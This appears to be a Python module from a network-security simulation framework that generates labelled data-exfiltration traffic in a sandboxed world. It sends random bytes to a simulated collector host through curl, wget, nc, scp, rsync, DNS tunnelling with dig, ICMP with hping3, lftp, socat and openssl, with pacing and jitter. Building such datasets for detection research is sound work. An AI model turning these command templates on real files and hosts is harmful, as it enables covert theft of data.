"""Stolen data on its way out."""

from attacks.aim import collector_of
from attacks.attack import SCRATCH, Campaign, Rule, attack
from attacks.collector import (
    COMMAND_DOMAIN,
    TUNNEL_DOMAIN,
    listener,
    name_server,
    ssh_options,
    ssh_server,
    through_resolver,
)
from attacks.steps import PYTHON, program, script, script_text, tool
from attacks.words import agent

_LOOT = f"{SCRATCH}/loot"


class _Theft:
    """A client, the collector's address, and how much goes there at which rate: at most 40 seconds of it."""

    def __init__(self, chance, world):
        self.client = world.compromised if chance.random() < 0.5 else chance.choice(world.clients)
        self.end = collector_of(chance, world)
        self.rate = chance.randint(150, 1200) * 1000
        self.size = min(chance.randint(2_000_000, 30_000_000), self.rate * chance.randint(15, 38))
        self.seed = chance.randrange(1 << 30)

    def loot(self, name="loot", size=None):
        line = f"head -c {size or self.size} /dev/urandom > {SCRATCH}/{name}"
        return tool(self.client, "sh", "-c", line, seconds=5)

    def campaign(self, steps, port, proto="tcp", files=None, least=500, rules=None, ends=None):
        rules = rules or (Rule(self.client.ip, self.end, str(port), proto),)
        return Campaign(tuple(steps), tuple(rules), (self.client.ip,), ends or (self.end,), files or {}, least)


@attack("exfiltration", "Exfiltration", "curl", "http-upload")
def curl_upload(chance, world):
    theft = _Theft(chance, world)
    tls = chance.random() < 0.5
    port = chance.choice((443, 8443) if tls else (80, 8080))
    url = f"{'https' if tls else 'http'}://{theft.end}:{port}/{chance.choice(('upload', 'a.php', 'backup/x.zip'))}"
    how = ("-T", _LOOT) if chance.random() < 0.5 else ("-F", f"file=@{_LOOT}")
    words = ("curl", "-k", "-s", "-o", "/dev/null", "-A", agent(chance), "--limit-rate", theft.rate, *how, url)
    steps = (
        listener(world, "https" if tls else "http", theft.end, port),
        theft.loot(),
        tool(theft.client, *words, pause=1, seconds=50, good=(0, None)),
    )
    return theft.campaign(steps, port)


@attack("exfiltration", "Exfiltration", "curl", "http-chunks")
def curl_chunks(chance, world):
    """In pieces, with pauses, to several addresses in turn."""
    theft = _Theft(chance, world)
    ends = world["collector"].v4[2:]
    port = chance.choice((80, 8080, 8000))
    count = chance.randint(6, 20)
    size = max(100_000, theft.size // 3 // count)
    lines = [
        f"head -c {int(size * chance.uniform(0.5, 1.5))} /dev/urandom | curl -s -m 10 -o /dev/null --limit-rate"
        f" {theft.rate * 2} -T - http://{chance.choice(ends)}:{port}/p/{number}; sleep {round(chance.uniform(0, 1.5), 2)}"
        for number in range(count)
    ]
    steps = (
        listener(world, "http", "0.0.0.0", port),
        script(theft.client, "send.sh", pause=1, seconds=57, good=(0, None)),
    )
    rule = Rule(theft.client.ip, ";".join(ends), str(port), "tcp")
    files = {"send.sh": script_text(*lines, "exit 0")}
    return theft.campaign(steps, port, files=files, rules=(rule,), ends=ends)


@attack("exfiltration", "Exfiltration", "wget", "http-post")
def wget_post(chance, world):
    """Files of some hundred kilobytes, one request each."""
    theft = _Theft(chance, world)
    count = chance.randint(8, 25)
    port = chance.choice((80, 8080))
    lines = [
        f"head -c {chance.randint(60_000, 700_000)} /dev/urandom > piece; wget -q -O /dev/null -t 1 -T 10"
        f" --post-file=piece http://{theft.end}:{port}/i.php?n={number}; sleep {round(chance.uniform(0, 1.5), 2)}"
        for number in range(count)
    ]
    steps = (
        listener(world, "http", theft.end, port),
        script(theft.client, "send.sh", pause=1, seconds=57, good=(0, None)),
    )
    return theft.campaign(steps, port, files={"send.sh": script_text(*lines, "exit 0")})


@attack("exfiltration", "Exfiltration", "nc", "raw")
def nc_stream(chance, world):
    """A stream without a protocol, at an even pace."""
    theft = _Theft(chance, world)
    port = chance.choice((4444, 443, 53, 9999, chance.randint(1024, 60000)))
    paced = f"i=0; while [ $i -lt {max(5, theft.size * 5 // theft.rate)} ]; do head -c {theft.rate // 5} /dev/urandom;"
    paced += f" sleep 0.2; i=$((i + 1)); done | nc -n -N -w 5 {theft.end} {port}"
    steps = (
        listener(world, "tcp", theft.end, port, "--answer", "0-0"),
        tool(theft.client, "sh", "-c", paced, pause=1, seconds=55, good=(0, None)),
    )
    return theft.campaign(steps, port)


@attack("exfiltration", "Exfiltration", "scp", "ssh")
def scp_copy(chance, world):
    theft = _Theft(chance, world)
    port = chance.choice((22, 443, 2222))
    limit = ("-l", theft.rate * 8 // 1000)
    name = ("scp", "-q", *limit, *ssh_options(port, "-P"), _LOOT, f"root@{theft.end}:/dev/null")
    steps = (
        ssh_server(world, theft.end, port),
        theft.loot(),
        tool(theft.client, *name, pause=2, seconds=50, good=(0, None)),
    )
    return theft.campaign(steps, port)


@attack("exfiltration", "Exfiltration", "dig", "dns")
def dig_names(chance, world):
    """A file in the names that are asked for."""
    return _dig(chance, world, chance.randint(60, 300), chance.uniform(0.05, 0.4), 57)


@attack("exfiltration", "Exfiltration", "dig", "dns-slow", seconds=2400, slow=True)
def slow_dig_names(chance, world):
    return _dig(chance, world, chance.randint(80, 200), chance.uniform(8, 16), 2390)


def _dig(chance, world, count, longest, seconds):
    theft = _Theft(chance, world)
    number = chance.choice((0, 1))
    domain = (TUNNEL_DOMAIN, COMMAND_DOMAIN)[number]
    kind = chance.choice(("A", "TXT", "AAAA"))
    length = chance.randint(12, 60)
    labels = chance.choice((1, 2, 3))
    lines = []
    for piece in range(count):
        name = ".".join(chance.randbytes(length // 2).hex() for _ in range(labels))
        lines.append(f"dig +tries=1 +time=2 +noall @{world['infra'].ip} {kind} {name}.{piece}.x.{domain}")
        lines.append(f"sleep {round(chance.uniform(0, longest), 2)}")
    steps = (
        name_server(world, number, theft.seed),
        script(theft.client, "send.sh", pause=1, seconds=seconds - 1, good=(0, None)),
    )
    rules = through_resolver(world, theft.client, number)
    files = {"send.sh": script_text(*lines, "exit 0")}
    return theft.campaign(steps, 53, files=files, least=150, rules=rules, ends=(world["collector"].v4[number],))


@attack("exfiltration", "Exfiltration", "trickle", "trickle")
def trickle(chance, world):
    """Small messages over a kept connection, or a new one for each."""
    return _trickle(chance, world, chance.randint(20, 45), round(chance.uniform(2, 12), 1))


@attack("exfiltration", "Exfiltration", "trickle", "trickle-slow", seconds=2400, slow=True)
def slow_trickle(chance, world):
    return _trickle(chance, world, chance.randint(500, 1500), round(chance.uniform(0.1, 0.5), 2))


def _trickle(chance, world, seconds, rate):
    theft = _Theft(chance, world)
    kind = chance.choice(("tcp", "tls", "udp"))
    port = chance.choice((443, 8443, 123, 5353, chance.randint(1024, 60000)))
    words = ["--kind", kind, "--target", theft.end, "--port", port, "--count", int(seconds * rate)]
    words += ["--period", round(1 / rate, 3), "--jitter", 0.5, "--seed", theft.seed]
    words += ["--bytes", chance.choice((700, 1200)) if kind == "udp" else chance.choice((1200, 8000, 30_000))]
    if chance.random() < 0.5:
        words.append("--keep")
    steps = (
        listener(world, kind, theft.end, port, "--answer", "1-4"),
        program(theft.client, "beacon", *words, pause=1.5, seconds=57 if seconds < 60 else 2390, good=(0, None)),
    )
    return theft.campaign(steps, port, "udp" if kind == "udp" else "tcp", least=60)


@attack("exfiltration", "Exfiltration", "hping3", "icmp")
def file_in_pings(chance, world):
    theft = _Theft(chance, world)
    size = chance.choice((64, 256, 1000, 1400))
    rate = chance.randint(10, 120)
    words = ("hping3", "-q", "-n", "--icmp", "-d", size, "-E", _LOOT, "-i", f"u{1_000_000 // rate}")
    words += ("-c", rate * chance.randint(15, 35), theft.end)
    steps = (theft.loot(size=size * 4000), tool(theft.client, *words, seconds=50, good=(0, 1, None)))
    return theft.campaign(steps, "*", "icmp", least=150)


@attack("exfiltration", "Exfiltration", "lftp", "ftp")
def lftp_put(chance, world):
    theft = _Theft(chance, world)
    folder = f"mkdir -p {SCRATCH}/taken && exec {PYTHON} -m pyftpdlib -w -i {theft.end} -p 21 -r 50000-50050"
    serve = f"{folder} -d {SCRATCH}/taken -u drop -P drop"
    orders = f"set net:limit-rate 0:{theft.rate}; set net:timeout 5; set net:max-retries 1; set ftp:ssl-allow no"
    orders += f"; put {_LOOT} -o x.bin; bye"
    steps = (
        tool(world["collector"], "sh", "-c", serve, background=True, good=(0, None)),
        theft.loot(),
        tool(theft.client, "lftp", "-u", "drop,drop", "-e", orders, theft.end, pause=1.5, seconds=50, good=(0, None)),
    )
    return theft.campaign(steps, "21;50000-50050")


@attack("exfiltration", "Exfiltration", "rsync", "ssh")
def rsync_copy(chance, world):
    theft = _Theft(chance, world)
    port = chance.choice((22, 443, 2222))
    shell = " ".join(("ssh", *ssh_options(port)))
    words = ("rsync", "-a", f"--bwlimit={theft.rate // 1000}", "-e", shell, _LOOT, f"root@{theft.end}:{SCRATCH}/taken")
    steps = (
        ssh_server(world, theft.end, port),
        theft.loot(),
        tool(theft.client, *words, pause=2, seconds=50, good=(0, None)),
    )
    return theft.campaign(steps, port)


@attack("exfiltration", "Exfiltration", "socat", "raw")
def socat_stream(chance, world):
    """In bursts of drawn lengths over TCP or UDP."""
    theft = _Theft(chance, world)
    kind = chance.choice(("TCP", "UDP"))
    port = chance.choice((443, 8000, 51820, chance.randint(1024, 60000)))
    lines = [
        f"head -c {int(theft.rate * chance.uniform(0.1, 1))} /dev/urandom; sleep {round(chance.uniform(0.1, 1.2), 2)}"
        for _ in range(chance.randint(12, 40))
    ]
    send = f"sh ./pieces.sh | socat -u -b 1200 - {kind}:{theft.end}:{port}"
    steps = (
        listener(world, kind.lower(), theft.end, port, "--answer", "0-0"),
        tool(theft.client, "sh", "-c", f"cd {SCRATCH} && {send}", pause=1, seconds=56, good=(0, None)),
    )
    return theft.campaign(steps, port, kind.lower(), files={"pieces.sh": script_text(*lines)})


@attack("exfiltration", "Exfiltration", "openssl", "tls")
def openssl_stream(chance, world):
    theft = _Theft(chance, world)
    port = chance.choice((443, 465, 993))
    paced = f"i=0; while [ $i -lt {max(5, theft.size * 2 // theft.rate)} ]; do head -c {theft.rate // 2} {_LOOT};"
    paced += (
        f" sleep 0.5; i=$((i + 1)); done | openssl s_client -quiet -no_ign_eof -nocommands -connect {theft.end}:{port}"
    )
    steps = (
        listener(world, "tls", theft.end, port, "--answer", "0-0"),
        theft.loot(),
        tool(theft.client, "sh", "-c", paced, pause=1.5, seconds=52, good=(0, None)),
    )
    return theft.campaign(steps, port)
